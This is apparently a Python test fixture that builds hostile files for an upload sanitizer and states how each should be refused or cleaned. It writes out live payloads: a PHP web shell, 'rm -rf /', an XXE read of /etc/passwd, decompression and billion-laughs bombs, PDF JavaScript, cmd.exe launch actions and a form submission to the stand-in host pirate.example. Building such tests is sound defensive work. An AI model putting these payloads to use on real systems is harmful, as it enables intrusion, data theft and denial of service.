"""Files made to harm, each with what must become of it.

Either a piece of the sentence that refuses it, or ``None`` when it is kept, made harmless.
"""

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.documents.files import document, image, pdf, photo, saved

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DAMAGED = "est abîmé ou incomplet"
ODD = "construit d'une façon anormale"
NOT_OPENED = "n'a pas pu être ouvert"


def with_root(**entries: object) -> bytes:
    made = document()
    for key, value in entries.items():
        made.Root[f"/{key}"] = value
    return saved(made)


def script(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def launch() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"))


def annotated(*annotations: Dictionary) -> bytes:
    made = document()
    made.pages[0].Annots = Array([made.make_indirect(each) for each in annotations])
    return saved(made)


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)


def attached(content: bytes = b"MZ" + b"\0" * 200) -> bytes:
    made = document()
    made.attachments["facture.exe"] = pikepdf.AttachedFileSpec(made, content, filename="facture.exe")
    return saved(made)


def form(xfa: bool) -> bytes:
    made = document()
    widget = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nom"),
            V=String("Camille"),
            Rect=Array([72, 600, 300, 630]),
            AA=Dictionary(K=script()),
            DA=String("/F1 12 Tf"),
        )
    )
    made.pages[0].Annots = Array([widget])
    made.Root.AcroForm = Dictionary(Fields=Array([widget]), NeedAppearances=True, DA=String("/F1 12 Tf"))
    if xfa:
        made.Root.AcroForm.XFA = made.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    return saved(made)


def rich_media() -> bytes:
    made = document()
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), Dictionary(Type=Name.Filespec)])))
    made.pages[0].Annots = Array(
        [
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=content)
            )
        ]
    )
    return saved(made)


def hidden_in_resources() -> bytes:
    made = document()
    made.pages[0].Resources.Properties = Dictionary(
        P1=made.make_indirect(Dictionary(Kids=Array([Dictionary(Deep=script())]), Next=launch()))
    )
    return saved(made)


def hidden_by_its_name() -> bytes:
    """``/JavaScript`` written with escapes, which a search of the bytes does not see."""
    return by_hand(CATALOGUE[:-2] + b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>", PAGES, PAGE)


def in_an_object_stream() -> bytes:
    made = document()
    made.Root.OpenAction = made.make_indirect(script())
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@functools.cache
def bomb(size: int, *, chain: int = 1) -> bytes:
    packer = zlib.compressobj(1)
    block = b" " * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    for _ in range(chain - 1):
        packed = zlib.compress(packed, 9)
    return packed


def stream_bomb(size: int, *, chain: int = 1, many: int = 1) -> bytes:
    made = document()
    raw = bomb(size, chain=chain)
    streams = []
    for _ in range(many):
        stream = pikepdf.Stream(made, raw)
        stream.Filter = Array([Name.FlateDecode] * chain) if chain > 1 else Name.FlateDecode
        streams.append(made.make_indirect(stream))
    made.pages[0].Contents = Array(streams)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def other_filter(name: str, raw: bytes) -> bytes:
    made = document()
    stream = pikepdf.Stream(made, raw)
    stream.Filter = Name(name)
    made.pages[0].Contents = made.make_indirect(stream)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def by_hand(*objects: bytes, root: int = 1, extra: bytes = b"", start: int | None = None) -> bytes:
    """A PDF written object by object, its table right unless ``start`` says otherwise."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        extra,
        table if start is None else start,
    )
    return out


CATALOGUE, PAGE = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def object_stream_bomb() -> bytes:
    raw = bomb(1 << 30)
    held = (
        b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(raw) + raw + b"\nendstream"
    )
    head = b"%PDF-1.7\n"
    objects = {1: CATALOGUE, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 4: held}
    out, offsets = head, {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    rows = b"".join(
        struct.pack(">BIH", *row)
        for row in [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (2, 4, 0), (1, offsets[4], 0), (1, at, 0)]
    )
    table = b"<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows) + rows + b"\nendstream"
    return out + b"5 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def cross_reference_loop() -> bytes:
    made = by_hand(CATALOGUE, PAGES, PAGE)
    at = int(made.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return made.replace(b"/Root 1 0 R  >>", b"/Root 1 0 R /Prev %d >>" % at)


def nested(depth: int) -> bytes:
    return by_hand(CATALOGUE, PAGES, PAGE[:-2] + b"/Resources << /X " + b"[" * depth + b"]" * depth + b" >> >>")


def deep_tree(depth: int) -> bytes:
    kids = [b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(3, 3 + depth)]
    return by_hand(CATALOGUE, PAGES, *kids, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (2 + depth))


def wide_tree(kids: int, count: int) -> bytes:
    return by_hand(CATALOGUE, b"<< /Type /Pages /Kids [" + b"3 0 R " * kids + b"] /Count %d >>" % count, PAGE)


def many_objects(count: int) -> bytes:
    return by_hand(CATALOGUE, PAGES, PAGE, *[b"<<>>"] * count)


def incremental() -> bytes:
    """A quiet document, then an update that gives it another catalogue."""
    made = by_hand(CATALOGUE, PAGES, PAGE)
    before = int(made.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    at = len(made)
    made += (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
    )
    table = len(made)
    return (
        made
        + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (at, before, table)
    )


def elsewhere() -> bytes:
    stream = b"<< /Length 0 /F (\\\\\\\\pirate.example\\\\partage\\\\x) >>\nstream\n\nendstream"
    return by_hand(CATALOGUE, PAGES, PAGE[:-2] + b"/Contents 4 0 R >>", stream)


def archive(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: bytes, colour: int = 2, data: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + header
        + b"".join(chunks)
        + chunk(b"IDAT", data or zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def moving(frames: int) -> bytes:
    plain = image("PNG", (20, 20))
    end = 8 + 25
    extra = chunk(b"acTL", struct.pack(">II", frames, 0)) + b"".join(
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 20, 20, 0, 0, 1, 10, 0, 0)) for n in range(frames)
    )
    return plain[:end] + extra + plain[end:]


def gif() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (20, 20), n) for n in range(50)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def sized_jpeg(width: int, height: int) -> bytes:
    """A real picture whose header claims another size."""
    made = bytearray(image())
    at = made.find(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(made)


def scrambled(content: bytes, seed: int) -> bytes:
    draw, made = random.Random(seed), bytearray(content)
    for _ in range(60):
        made[draw.randrange(10, len(made))] = draw.randrange(256)
    return bytes(made)


XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><l>&m;</l>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"

CORPUS: dict[str, tuple[Callable[[], bytes], str | None]] = {
    # PDF that act
    "javascript at opening": (lambda: with_root(OpenAction=script()), None),
    "javascript by a name tree": (
        lambda: with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        None,
    ),
    "javascript under an escaped name": (hidden_by_its_name, None),
    "javascript in an object stream": (in_an_object_stream, None),
    "javascript hidden in resources": (hidden_in_resources, None),
    "additional actions": (lambda: with_root(AA=Dictionary(WC=script())), None),
    "launch at opening": (lambda: with_root(OpenAction=launch()), None),
    "launch behind a link": (lambda: annotated(link(launch())), None),
    "link to a site": (lambda: annotated(link(Dictionary(S=Name.URI, URI=String("http://pirate.example")))), None),
    "form sent elsewhere": (
        lambda: annotated(link(Dictionary(S=Name.SubmitForm, F=String("http://pirate.example")))),
        None,
    ),
    "other document opened": (lambda: annotated(link(Dictionary(S=Name.GoToR, F=String("//pirate/x.pdf")))), None),
    "embedded program": (attached, None),
    "embedded pdf": (lambda: attached(pdf()), None),
    "file attached to the page": (
        lambda: annotated(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([0, 0, 9, 9]),
                FS=Dictionary(Type=Name.Filespec, F=String("a.exe")),
            )
        ),
        None,
    ),
    "form with scripts": (lambda: form(xfa=False), None),
    "xfa form": (lambda: form(xfa=True), None),
    "rich media": (rich_media, None),
    "portfolio": (lambda: with_root(Collection=Dictionary(View=Name.D)), None),
    "update that adds a script": (incremental, None),
    "stream said to be elsewhere": (elsewhere, ODD),
    # PDF that wear out
    "stream of 1 GB": (lambda: stream_bomb(1 << 30), ODD),
    "stream packed twice": (lambda: stream_bomb(1 << 30, chain=2), ODD),
    "stream packed five times": (lambda: stream_bomb(1 << 26, chain=5), ODD),
    "many streams of 60 MB": (lambda: stream_bomb(60 << 20, many=20), ODD),
    "run-length stream": (lambda: other_filter("/RunLengthDecode", b"\x81 " * 2_000_000), ""),
    "object stream of 1 GB": (object_stream_bomb, ""),
    "cross-reference loop": (cross_reference_loop, ""),
    "cross-reference out of the file": (lambda: by_hand(CATALOGUE, PAGES, PAGE, start=99_999_999), DAMAGED),
    "page tree in a circle": (lambda: by_hand(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), ""),
    "page tree 20,000 deep": (lambda: deep_tree(20_000), ""),
    "page tree of a million": (lambda: wide_tree(1_000_000, 1), ""),
    "10,000 pages": (lambda: wide_tree(10_000, 10_000), "plus de 60 pages"),
    "61 pages": (lambda: pdf(pages=61), "plus de 60 pages"),
    "pages counted wrong": (lambda: wide_tree(200, 1), "plus de 60 pages"),
    "no page": (lambda: by_hand(CATALOGUE, b"<< /Type /Pages /Kids [] /Count 0 >>"), "aucune page"),
    "arrays 100,000 deep": (lambda: nested(100_000), ""),
    "arrays 400 deep": (lambda: nested(400), ""),
    "100,000 objects": (lambda: many_objects(100_000), ODD),
    "encrypted": (lambda: saved(document(), encryption=pikepdf.Encryption(owner="a", user="b")), "protégé"),
    "protected against copies": (
        lambda: saved(document(), encryption=pikepdf.Encryption(owner="a", user="")),
        "protégé",
    ),
    "cut pdf": (lambda: pdf(pages=20)[:-300], DAMAGED),
    "scrambled pdf": (lambda: scrambled(pdf(pages=20), 1), ""),
    "only a header": (lambda: b"%PDF-1.7\n%%EOF", DAMAGED),
    "header and noise": (lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(200_000), DAMAGED),
    # Two things at once
    "html then pdf": (lambda: HTML + pdf(), "une page web"),
    "noise then pdf": (lambda: b"\x01\x02" * 20 + pdf(), DAMAGED),
    "pdf then zip": (lambda: pdf() + archive(a=b"MZ"), None),
    "pdf then html": (lambda: pdf() + HTML, None),
    "gif with a script": (lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "une image GIF"),
    "jpeg then php": (lambda: image() + b"<?php system($_GET['c']); ?>", None),
    "jpeg with php in its comment": (lambda: image(comment=b"<?php system('id'); ?>"), None),
    "jpeg then zip": (lambda: image() + archive(a=b"MZ"), None),
    "png then html": (lambda: image("PNG") + HTML, None),
    # Pictures
    "png of 60,000 by 60,000": (lambda: png(60_000, 60_000), "trop de pixels"),
    "png of 4 billion wide": (lambda: png(2**31 - 1, 2**31 - 1), "trop de pixels"),
    "real png of 6,000 by 6,000": (lambda: image("PNG", (6_000, 6_000)), "trop de pixels"),
    "png with no pixel": (lambda: png(0, 0), ""),
    "png whose data unfolds": (lambda: png(100, 100, data=bomb(1 << 28)), ""),
    "png with a text bomb": (
        lambda: png(50, 50, chunk(b"zTXt", b"a\0\0" + bomb(1 << 28)), data=zlib.compress((b"\0" + b"\1" * 150) * 50)),
        "",
    ),
    "png with a profile bomb": (
        lambda: png(50, 50, chunk(b"iCCP", b"a\0\0" + bomb(1 << 28)), data=zlib.compress((b"\0" + b"\1" * 150) * 50)),
        "",
    ),
    "moving png of 10,000 images": (lambda: moving(10_000), "animée"),
    "cut png": (lambda: image("PNG", (900, 900))[:-400], DAMAGED),
    "jpeg of 60,000 by 60,000": (lambda: sized_jpeg(60_000, 60_000), "trop de pixels"),
    "jpeg longer than its data": (lambda: sized_jpeg(3_000, 3_000), None),
    "cut jpeg": (lambda: image(size=(900, 900))[:-400], DAMAGED),
    "scrambled jpeg": (lambda: scrambled(image(size=(900, 900)), 2), ""),
    "jpeg that says where it was taken": (photo, None),
    "moving gif": (gif, "une image GIF"),
    "tiff": (lambda: image("TIFF"), "une image TIFF"),
    "tiff bomb": (lambda: b"II*\x00\x08\x00\x00\x00" + b"\xff" * 5_000, "une image TIFF"),
    "webp": (lambda: image("WEBP"), "une image WebP"),
    "bmp": (lambda: image("BMP"), "une image BMP"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 200, "HEIC"),
    "film": (lambda: b"\0\0\0\x18ftypisom" + b"\0" * 200, "film"),
    # Something else
    "svg with a script": (lambda: SVG, "un dessin SVG"),
    "xml that reads files": (lambda: XXE, "un fichier XML"),
    "billion laughs": (lambda: LAUGHS, "un fichier XML"),
    "web page": (lambda: HTML, "une page web"),
    "docx with macros": (
        lambda: archive(word__vbaProject_bin=b"Sub AutoOpen", word__document_xml=b"<w/>"),
        "Enregistrez-le en PDF",
    ),
    "xls with macros": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000, "Enregistrez-le en PDF"),
    "zip bomb": (lambda: archive(a=b"\0" * 50_000_000), "une archive"),
    "program": (lambda: b"MZ" + b"\0" * 5_000, "un programme"),
    "linux program": (lambda: b"\x7fELF" + b"\0" * 5_000, "un programme"),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "un programme"),
    "rtf": (lambda: b"{\\rtf1 bonjour}", "un document"),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(r) file", "un document"),
    "eicar": (lambda: EICAR, "ni un PDF ni une image"),
    "empty": (lambda: b"", "vide"),
    "only blanks": (lambda: b" \n\0" * 500, "vide"),
    "too big": (lambda: b"%PDF-1.7" + b"x" * 10_000_000, "la limite est de 10 Mo"),
}


def leftovers(kept: bytes) -> set[str]:
    """Names that act, anywhere in a document: written apart from the cleaning, on the bytes unpacked."""
    with pikepdf.open(io.BytesIO(kept)) as again:
        found: set[str] = set()
        for each in again.objects:
            _names(each, found)
        return found & {
            "/JS",
            "/JavaScript",
            "/Launch",
            "/EmbeddedFile",
            "/EmbeddedFiles",
            "/OpenAction",
            "/AA",
            "/XFA",
            "/RichMedia",
            "/AcroForm",
            "/Annots",
            "/URI",
        }


def _names(holder: object, found: set[str]) -> None:
    if isinstance(holder, Name):
        found.add(str(holder))
    elif isinstance(holder, pikepdf.Stream | Dictionary):
        for key, value in holder.items():
            found.add(key)
            if not getattr(value, "is_indirect", False):
                _names(value, found)
    elif isinstance(holder, Array):
        for value in holder:
            if not getattr(value, "is_indirect", False):
                _names(value, found)
